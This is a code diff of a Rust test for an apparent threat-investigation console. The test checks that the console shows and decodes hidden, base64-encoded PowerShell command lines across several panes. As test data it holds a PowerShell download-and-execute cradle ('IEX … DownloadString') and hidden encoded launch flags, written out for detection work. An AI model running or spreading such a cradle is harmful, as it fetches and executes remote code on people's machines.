@@ -8,13 +8,13 @@ const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http";
 #[tokio::test]
 async fn one_key_shows_the_whole_command_line_and_what_it_hides() {
     let mut console = Console::with_query("process_name:powershell.exe cmdline:hidden hostname:fin-ws-042").await;
-    console.press("esc C").await.shows(&["Command line", "-nop -w hidden -enc SQBFAFgA", "AJwApAA=", "decoded 1"]);
+    console.press("esc C").await.shows(&["Command line", "-nop -w hidden -enc", "SQBFAFgA", "ACcAKQA=", "decoded 1"]);
     console.shows(&["base64 of UTF-16, in the command line; decoded here", SCRIPT]);
     console.press("esc").await.lacks("decoded 1");
     // The tree, the details and the events of the process have it as well.
     console.press("enter").await.shows(&["decoded"]);
     for pane in ["", "tab", "tab"] {
-        console.press(pane).await.press("C").await.shows(&["AJwApAA=", SCRIPT]);
+        console.press(pane).await.press("C").await.shows(&["ACcAKQA=", SCRIPT]);
         console.press("esc").await;
     }
 }
